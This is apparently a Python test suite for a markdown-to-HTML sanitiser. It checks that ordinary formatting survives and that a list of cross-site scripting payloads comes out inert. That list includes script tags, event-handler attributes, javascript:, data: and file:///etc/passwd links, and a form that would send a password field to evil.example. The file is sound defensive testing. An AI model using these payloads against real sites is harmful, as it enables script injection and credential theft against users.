"""Markdown becomes safe HTML: nothing active comes through, nothing readable is lost."""

from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from kcs.markup import sanitise, to_html, to_markup, to_text

KEPT = {
    "paragraph": (
        "Allow *all* **pop-ups** ~~now~~.",
        ["<em>all</em>", "<strong>pop-ups</strong>", "<s>now</s>"],
    ),
    "numbered list": ("3. Open\n4. Save", ['<ol start="3">', "<li>Open</li>"]),
    "bullets": ("- one\n- two", ["<ul>", "<li>two</li>"]),
    "table": ("| a | b |\n|---|---|\n| 1 | 2 |", ["<table>", "<th>a</th>", "<td>2</td>"]),
    "code": (
        "`x < y`\n\n```\n<b>&\n```",
        ["<code>x &lt; y</code>", "<pre><code>&lt;b&gt;&amp;\n</code></pre>"],
    ),
    "first heading is second level": ("# Top\n\n## Sub", ["<h2>Top</h2>", "<h2>Sub</h2>"]),
    "quote and rule": ("> said\n\n---", ["<blockquote>", "<hr>"]),
    "link": (
        "[a](https://x.example/?q=1&r=2)",
        ['<a href="https://x.example/?q=1&amp;r=2" rel="noopener noreferrer">a</a>'],
    ),
    "mail link": ("[a](mailto:help@x.example)", ['href="mailto:help@x.example"']),
    "raw html shown": (
        "<b>bold</b> <script>alert(1)</script>",
        ["&lt;b&gt;bold&lt;/b&gt;", "&lt;script&gt;"],
    ),
    "right to left": ("שלום עולם", ["שלום עולם"]),
}

ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<iframe src=//evil.example></iframe>",
    "<style>*{display:none}</style>",
    "<form action=//evil.example><input name=password></form>",
    "<p style='position:fixed' id=x class=y onclick=alert(1)>p</p>",
    "<a href='javascript:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox)",
    "[x](file:///etc/passwd)",
    '[x](https://x.example "onmouseover=alert(1)")',
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "![x](https://evil.example/pixel.png)",
    "![x](javascript:alert(1))",
    "<math><mtext></p><img src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "`<script>`\n```html\n<script>alert(1)</script>\n```",
    "<!--><script>alert(1)</script>-->",
    "<a\nhref=javascript:alert(1)>x",
]

TAG = re.compile(r"</?([a-z0-9]+)((?:\s[^>]*)?)/?>")
ATTRIBUTE = re.compile(r'\s([a-z-]+)="([^"]*)"')
SAFE_TAGS = re.compile(
    "p|br|hr|blockquote|pre|code|em|strong|s|a|ul|ol|li|table|thead|tbody|tr|th|td|img|h[2-6]"
)


def assert_inert(html: str) -> None:
    """Only our elements, only our attributes, only links that go somewhere."""
    for tag, attributes in TAG.findall(html):
        assert SAFE_TAGS.fullmatch(tag), html
        for name, value in ATTRIBUTE.findall(attributes):
            assert name in {"href", "title", "rel", "start", "alt"}, html
            assert name != "href" or re.match(r"https?://|mailto:|[#/\w]", value), html
            assert name != "href" or not re.match(r"(?i)\s*(javascript|data|vbscript|file):", value), html
    assert "<" not in TAG.sub("", html), html


@pytest.mark.parametrize(("markdown", "pieces"), KEPT.values(), ids=KEPT)
def test_what_an_article_may_have_is_kept(markdown: str, pieces: list[str]) -> None:
    html = to_html(markdown)
    assert [piece for piece in pieces if piece not in html] == [], html
    assert_inert(html)


@pytest.mark.parametrize("markdown", ATTACKS)
def test_nothing_active_comes_through(markdown: str) -> None:
    assert_inert(to_html(markdown))
    assert_inert(sanitise(markdown))
    assert_inert(to_html(f"> - **{markdown}**"))


@given(
    st.text(
        st.sampled_from("<>[]()!`*_~|#&;:\"'=/\\ \n\tajvscriptonhref0")
        | st.characters(exclude_categories=["Cs"])
    )
)
def test_no_text_makes_anything_else_than_inert_html(markdown: str) -> None:
    html = to_html(markdown)
    assert_inert(html)
    assert sanitise(html) == html
    assert isinstance(to_text(markdown), str)


def test_the_output_may_stand_in_a_page_as_it_is() -> None:
    assert to_markup("a < b").__html__() == "<p>a &lt; b</p>\n"


@pytest.mark.parametrize(
    ("markdown", "text"),
    [
        ("a**b**c &amp; `d`", "abc & d"),
        ("[here](mailto:a%40b.example)", "mailto:a@b.example"),
        ("- one\n- two", "one\n"),
        ("a&#64;b", "a@b"),
    ],
)
def test_a_readers_text_is_what_is_shown_and_where_links_lead(markdown: str, text: str) -> None:
    assert text in to_text(markdown)
